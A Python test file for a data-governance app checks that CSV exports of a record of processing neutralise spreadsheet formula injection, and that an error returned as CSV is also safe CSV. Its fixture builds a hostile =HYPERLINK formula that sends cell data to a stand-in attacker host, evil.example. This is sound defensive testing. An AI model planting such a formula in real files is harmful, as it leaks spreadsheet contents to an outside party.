"""The record of processing as CSV: a cell a spreadsheet could run comes out as text."""

from __future__ import annotations

import csv
import io

import pytest

from governance.models import Programme

API = "/api/v1/organisations/A81001/record-of-processing/?format=csv"
PAGE = "/organisations/A81001/record-of-processing.csv"
PREFIXES = ["=", "+", "-", "@", "\t"]


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.fixture
def hostile(programme):
    """Return a function giving the programme a purpose and a name that start with `prefix`."""

    def make(prefix: str) -> str:
        value = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"x")'
        Programme.objects.filter(pk=programme.pk).update(purposes=[value], name=value)
        return value

    return make


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_formula_in_a_purpose_is_neutralised_in_the_api_csv(api, dpo_a, hostile, prefix):
    value = hostile(prefix)
    [row] = rows_of(api(dpo_a).get(API))
    assert row["purposes"] == "'" + value
    assert row["programme_name"] == "'" + value


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_formula_in_a_purpose_is_neutralised_in_the_downloaded_csv(
    client, dpo_a, hostile, prefix
):
    value = hostile(prefix)
    client.force_login(dpo_a)
    [row] = rows_of(client.get(PAGE))
    assert row["purposes"] == "'" + value
    assert row["programme_name"] == "'" + value


def test_an_error_answered_in_csv_is_safe_csv_too(api, alice, programme):
    response = api(alice).get(API)
    assert response.status_code == 403
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == ["detail"] and len(rows) == 2 and rows[1][0]
